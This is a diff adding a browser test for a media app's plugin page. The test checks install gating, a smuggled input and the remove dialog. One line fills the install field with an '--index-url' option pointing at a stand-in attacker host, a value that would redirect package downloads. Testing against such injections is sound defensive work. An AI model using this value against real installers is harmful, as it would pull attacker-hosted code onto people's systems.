@@ -35,3 +35,22 @@ def test_an_encoder_that_does_not_work_here_says_why_in_words(browser: Looker, s
             assert "." in line.inner_text().splitlines()[-1].strip(" →"), "a sentence, not a code"
             assert "nvenc.no_" not in line.inner_text()
             assert "vaapi.no_" not in line.inner_text()
+
+
+def test_plugins_are_installed_here_only_where_the_setting_allows_it(browser: Looker, server: Site) -> None:
+    with browser.window(server.address, cookies=server.cookies, expected=("status of 4",)) as window:
+        page = window.page
+        page.goto("/plugins")
+        expect(page.locator("#install")).to_have_count(0)
+        server.client.patch("/api/v1/settings", json={"plugin_install": True}).raise_for_status()
+        page.reload()
+        page.wait_for_function("document.documentElement.dataset.ready === 'yes'")
+        page.get_by_label("Install a plugin").fill("--index-url=https://evil.example/ x")
+        page.get_by_role("button", name="Install", exact=True).click()
+        expect(page.locator("#said .notice")).to_be_visible()
+        row = page.locator("tr[data-plugin=nvenc]")
+        row.get_by_role("button", name="Remove nvenc").click()
+        expect(page.get_by_role("dialog")).to_contain_text("Its data and configurations stay.")
+        page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
+        expect(row.locator(".word")).to_have_text("Loaded")
+    server.client.patch("/api/v1/settings", json={"plugin_install": None}).raise_for_status()
